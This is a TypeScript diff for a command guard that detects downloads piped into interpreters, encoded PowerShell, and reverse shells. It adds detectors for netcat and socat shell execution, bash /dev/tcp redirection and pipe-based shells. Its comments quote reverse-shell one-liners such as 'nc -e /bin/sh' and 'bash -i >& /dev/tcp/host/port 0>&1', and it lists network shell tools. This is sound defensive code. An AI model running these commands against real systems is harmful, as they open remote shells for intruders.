@@ -1,23 +1,23 @@
 import { UNKNOWN } from "../../../src/shell/unknown.ts";
 import type { Call, CommandAnalysis } from "../command/call.ts";
+import { optionValues, parseOptions } from "../command/options.ts";
+import { isSocketPath } from "../command/paths.ts";
 import { type Finding, type Guard, strictest } from "../guard.ts";
-import { fullSource, readRules } from "./command-rules.ts";
-import { beginsUnknown, codeOf, plainName, runsWhat } from "./interpreters.ts";
+import { fullSource, readRules, redirectionsOf } from "./command-rules.ts";
+import { beginsUnknown, codeOf, isInterpreter, isShell, plainName, runsWhat } from "./interpreters.ts";
 import { runOfDownload } from "./remote-code/downloads.ts";
-import { createOrigins, type Origin, type Origins } from "./remote-code/origins.ts";
-import { opensShell } from "./remote-code/reverse-shell.ts";
+import { createOrigins, isNetworkAddress, type Origin, type Origins } from "./remote-code/origins.ts";
 import table from "./remote-code/rules.json" with { type: "json" };
 
 const RULES = readRules(table);
 
 export const remoteCode: Guard = {
-  name: "remote-code",
-  about: "Stops code that nobody has read: downloads piped to an interpreter, decoded scripts, reverse shells.",
-  rules: RULES.about,
-  programs: ["curl", "wget", "nc", "ncat", "socat", "base64", "eval"],
+  ...RULES.guard,
   judgeCommand: ({ calls }) => {
     const origins = createOrigins();
-    return strictest(calls.map((call) => judgeCall(call, { origins, calls }))) ?? judgeDownloads(calls, origins);
+    const found = strictest(calls.map((call) => judgeCall(call, { origins, calls })));
+    const run = found === null ? runOfDownload(calls, origins) : null;
+    return run === null ? found : RULES.find("run-download", run.source);
   },
 };
 
@@ -77,16 +77,8 @@ const originOfAny = ({ calls, origins }: Command): Origin | null =>
 
 /** The origin of the text in a variable: `CODE=$(curl …); eval "$CODE"`. */
 function originOfCaptured(calls: readonly Call[], origins: Origins): Origin | null {
-  for (const call of calls) {
-    const origin = call.isCaptured ? origins.ofOutput(call) : null;
-    if (origin !== null) return origin;
-  }
-  return null;
-}
-
-function judgeDownloads(calls: readonly Call[], origins: Origins): Finding | null {
-  const found = runOfDownload(calls, origins);
-  return found === null ? null : RULES.find("run-download", found.call.source);
+  const captured = calls.filter(({ isCaptured }) => isCaptured);
+  return captured.map(origins.ofOutput).find((origin) => origin !== null) ?? null;
 }
 
 /** Functions that run a text as code or as a command. */
@@ -125,3 +117,51 @@ const runsWhatItBrings = (code: string): boolean => {
 /** `powershell -enc …` */
 const isEncoded = ({ program, args }: Call): boolean =>
   /^(?:pwsh|powershell)$/.test(plainName(program)) && args.some(({ text }) => /^[-/](?:e|ec|en|enc\w*)$/i.test(text));
+
+const NETCATS = /^(?:nc|ncat|netcat|nc\.(?:openbsd|traditional)|nc6|pwncat)$/;
+const NETCAT = {
+  values: "-e -c -p -s -w -q -i -x -X --exec --sh-exec --lua-exec --source-port",
+  flags: "--listen --keep-open --verbose --ssl --udp",
+};
+
+/** True if a call connects the input and output of a shell to the network. */
+const opensShell = (call: Call): boolean => execsShell(call) || connectsShell(call) || pipesShell(call);
+
+/** `nc -e /bin/sh`, `socat TCP:… EXEC:/bin/sh`. */
+function execsShell({ program, args }: Call): boolean {
+  const name = plainName(program);
+  if (NETCATS.test(name)) return optionValues(parseOptions(args, NETCAT), "-e -c --exec --sh-exec").some(startsShell);
+  if (name !== "socat") return false;
+  const addresses = args.map(({ text }) => text);
+  return addresses.some(isNetworkAddress) && addresses.some(isShellAddress);
+}
+
+const isShellAddress = (address: string): boolean =>
+  /^shell\b/i.test(address) ||
+  (/^(?:exec|system):/i.test(address) && hasShell(address.replace(/^\w+:/, "").split(",")[0] ?? ""));
+
+const startsShell = ({ text }: { readonly text: string }): boolean => text.includes("\0") || hasShell(text);
+
+/** The programs of a short command line. */
+const hasShell = (text: string): boolean =>
+  text
+    .split(/[\s"';&|]+/)
+    .some((word) => isInterpreter(word.slice(word.lastIndexOf("/") + 1)) || /^cmd(?:\.exe)?$/i.test(word));
+
+/** `bash -i >& /dev/tcp/host/port 0>&1`. */
+function connectsShell(call: Call): boolean {
+  if (!isInterpreter(call.program)) return false;
+  const runs = runsWhat(call);
+  if (runs.kind !== "input") return false;
+  const sockets = redirectionsOf(call).filter(({ target }) => isSocketPath(target.text));
+  const readsOutput = /0[<>]?>?&|<&|<>/.test(fullSource(call));
+  return sockets.some(({ kind, descriptor }) => readsOutput || (kind === "read" && (descriptor ?? 0) === 0));
+}
+
+/** `cat pipe | sh -i 2>&1 | nc host port > pipe`: a shell that reads from a pipe prints to the network. */
+function pipesShell({ program, input }: Call): boolean {
+  const isNetwork = NETCATS.test(plainName(program)) || ["telnet", "socat", "openssl"].includes(plainName(program));
+  if (!isNetwork || input.kind !== "pipe") return false;
+  const readsPipe = (shell: Call): boolean => shell.input.kind === "file" || shell.input.kind === "pipe";
+  return input.from.some((from) => isShell(from.program) && runsWhat(from).kind === "input" && readsPipe(from));
+}
